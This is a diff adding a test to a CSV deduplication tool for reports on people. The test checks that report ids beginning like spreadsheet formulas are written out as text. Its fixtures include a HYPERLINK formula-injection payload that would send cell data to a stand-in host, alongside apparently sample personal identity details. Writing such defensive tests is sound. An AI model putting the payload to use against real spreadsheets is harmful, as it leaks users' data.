@@ -135,3 +135,26 @@ def test_lists_as_families_keep_them(tmp_path, monkeypatch):
         result = runner.invoke(dedup_cli, ["csv", name, "--out", "bad-out"])
         assert result.exit_code == 1 and words in result.output, (name, result.output)
         assert "Traceback" not in result.output and not (tmp_path / "bad-out").exists()
+
+
+def test_report_ids_that_a_spreadsheet_would_run_are_written_as_text(tmp_path, monkeypatch):
+    """The ids come from other people's spreadsheets: pairs.csv and clusters.csv are opened in one,
+    so an id that starts a formula (=, +, -, @, or their full-width forms) is written with a leading apostrophe."""
+    from click.testing import CliRunner
+
+    from intake.cli.dedup import dedup_cli
+
+    monkeypatch.chdir(tmp_path)
+    hostile = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "=1+1", "＝1"]
+    rows = [{"report_id": rid, "given_name": "Ablimit", "father_name": "Tursun", "gender": "male",
+             "birth_date": "1984-06-17", "home_place": "Kashgar", "chinese_id": "653101198406171232"}
+            for rid in hostile]
+    write_csv(str(tmp_path / "list.csv"), rows)
+    result = CliRunner().invoke(dedup_cli, ["csv", "list.csv", "--out", "out"])
+    assert result.exit_code == 0, result.output
+    pairs, clusters = read(tmp_path / "out" / "pairs.csv"), read(tmp_path / "out" / "clusters.csv")
+    assert pairs, "the same person six times makes pairs"
+    cells = [c for p in pairs for c in (p["report_id_l"], p["report_id_r"])]
+    cells += [c for row in clusters for c in (row["report_id"], row["cluster_id"])]
+    assert {c.lstrip("'") for c in cells} == set(hostile)  # the ids are all there, recognisably
+    assert all(c.startswith("'") for c in cells)
